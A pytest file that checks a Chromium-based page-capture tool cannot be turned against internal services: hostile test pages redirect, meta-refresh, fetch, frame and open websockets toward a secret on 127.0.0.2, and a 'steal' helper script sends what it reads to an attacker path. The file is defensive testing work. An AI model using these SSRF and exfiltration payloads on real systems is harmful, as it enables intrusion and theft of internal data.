"""Captured pages cannot reach inward: real Chromium, a replica post server on
127.0.0.1 (allowed), and an internal service on 127.0.0.2 (not allowed) holding a
secret. Hostile pages redirect, meta-refresh, ``fetch``, frame and open websockets to
it, and send what they read to an "attacker" path on the replica."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from classifiers.ocr import ocr_image
from crawler.chromium import sandbox_options
from crawler.config import BrowserConfig, find_browser
from crawler.errors import CaptureError
from evidence.bundle import MANIFEST
from evidence.capture import LAUNCH_ARGS, Capturer
from tests.support.http import Reply, loopback_fence, serve

pytestmark = pytest.mark.browser

SECRET = "RAHASIA-internal-kunci-admin-123"
TIMEOUT_SECONDS = 4.0


def page(body: str, head: str = "") -> Reply:
    html = (
        f'<!doctype html><html lang="id"><head><meta charset="utf-8">{head}</head>'
        f"<body><h1>LOKER ADMIN KAMBOJA gaji 1000 USD</h1>{body}</body></html>"
    )
    return Reply(html.encode())


def steal(expression: str) -> str:
    """Script that reads ``expression`` (a promise of text), shows it on the page and
    sends it to /curi."""
    return (
        f"<script>Promise.resolve().then(() => {expression})"
        ".then(t => { document.body.insertAdjacentText('beforeend', t);"
        " return fetch('/curi?d=' + encodeURIComponent(t)); })"
        ".catch(e => fetch('/curi?gagal=' + encodeURIComponent(String(e))));</script>"
    )


@pytest.fixture(scope="module")
def internal_log() -> list[str]:
    return []


@pytest.fixture(scope="module")
def internal(internal_log: list[str]) -> Iterator[str]:
    routes = {"/rahasia": Reply(f"<p>{SECRET}</p>".encode())}
    with serve(routes, host="127.0.0.2", log=internal_log) as base_url:
        yield base_url


@pytest.fixture(scope="module")
def attacker_log() -> list[str]:
    return []


@pytest.fixture(scope="module")
def site(internal: str, attacker_log: list[str]) -> Iterator[str]:
    secret_url = f"{internal}/rahasia"
    ws_url = internal.replace("http://", "ws://") + "/ws"
    routes = {
        "/loker": page("<p>Hubungi WA +855 12 345 678</p>"),
        "/pindah": Reply(b"", status=302, headers=(("Location", secret_url),)),
        "/segar": page(
            "<p>tunggu</p>", f'<meta http-equiv="refresh" content="0;url={secret_url}">'
        ),
        "/ambil": page(steal(f"fetch('{secret_url}').then(r => r.text())")),
        "/bingkai": page(f'<iframe src="{secret_url}"></iframe><img src="{internal}/x.png">'),
        "/soket": page(
            steal(
                f"new Promise((ok, no) => {{ const s = new WebSocket('{ws_url}');"
                " s.onmessage = m => ok(m.data); s.onerror = () => no('ws gagal'); })"
            )
        ),
        "/curi": Reply(b"ok", content_type="text/plain"),
    }
    with serve(routes, log=attacker_log) as base_url:
        yield base_url


@pytest.fixture(scope="module")
def capturer() -> Iterator[Capturer]:
    path = find_browser()
    if not Path(path).is_file():
        pytest.skip(f"no Chromium found (looked on PATH and at {path})")
    config = BrowserConfig(executable_path=path, timeout_seconds=TIMEOUT_SECONDS)
    with Capturer(config, loopback_fence()) as started:
        yield started


@pytest.fixture(autouse=True)
def nothing_reached_inside(internal_log: list[str]) -> Iterator[None]:
    """After every test: the internal service received no request at all."""
    yield
    assert internal_log == []


def bundle_text(folder: Path) -> str:
    return "".join(
        (folder / name).read_text(encoding="utf-8", errors="replace")
        for name in ("page.html", "page.txt", "page.view.html", MANIFEST)
    )


def screenshot_text(folder: Path) -> str:
    """What Tesseract reads in the bundle's screenshot (skips without Tesseract)."""
    if shutil.which("tesseract") is None:
        pytest.skip("Tesseract is not installed")
    return ocr_image((folder / "screenshot.png").read_bytes(), languages="eng")


def test_plain_page_is_captured_through_the_fence(
    capturer: Capturer, site: str, tmp_path: Path
) -> None:
    result = capturer.capture(f"{site}/loker", tmp_path / "b")
    assert "+855 12 345 678" in (result.path / "page.txt").read_text(encoding="utf-8")
    assert "KAMBOJA" in screenshot_text(result.path).upper()  # OCR sees the page's words
    assert json.loads((result.path / MANIFEST).read_text())["notes"] == []


def test_redirect_inward_is_not_captured(capturer: Capturer, site: str, tmp_path: Path) -> None:
    with pytest.raises(CaptureError, match="the page led to .*: loopback address 127.0.0.2"):
        capturer.capture(f"{site}/pindah", tmp_path / "b")
    assert not (tmp_path / "b").exists()


def test_meta_refresh_inward_is_not_captured_as_the_internal_page(
    capturer: Capturer, site: str, tmp_path: Path
) -> None:
    with pytest.raises(CaptureError, match="the page led to .*: loopback address 127.0.0.2"):
        capturer.capture(f"{site}/segar", tmp_path / "b")
    assert not (tmp_path / "b").exists()


@pytest.mark.parametrize("path", ["/ambil", "/soket"])
def test_script_cannot_read_an_internal_service(
    capturer: Capturer, site: str, attacker_log: list[str], tmp_path: Path, path: str
) -> None:
    attacker_log.clear()
    result = capturer.capture(f"{site}{path}", tmp_path / "b")
    notes = json.loads((result.path / MANIFEST).read_text())["notes"]
    assert any("refused by the fence" in n and "127.0.0.2" in n for n in notes), notes
    assert SECRET not in bundle_text(result.path)
    assert "RAHASIA" not in screenshot_text(result.path).upper()
    assert not any(SECRET in entry for entry in attacker_log)
    assert any(entry.startswith("/curi?gagal=") for entry in attacker_log), attacker_log


def test_frames_and_images_inward_are_refused_and_noted(
    capturer: Capturer, site: str, tmp_path: Path
) -> None:
    result = capturer.capture(f"{site}/bingkai", tmp_path / "b")
    notes = " ".join(json.loads((result.path / MANIFEST).read_text())["notes"])
    assert "/rahasia: loopback address 127.0.0.2" in notes
    assert "/x.png: loopback address 127.0.0.2" in notes
    assert SECRET not in bundle_text(result.path)


@pytest.mark.parametrize(("euid", "sandboxed"), [(0, False), (1000, True)])
def test_chromium_keeps_its_sandbox_unless_root(euid: int, sandboxed: bool) -> None:
    assert ("--no-sandbox" not in sandbox_options(LAUNCH_ARGS, euid)["args"]) is sandboxed
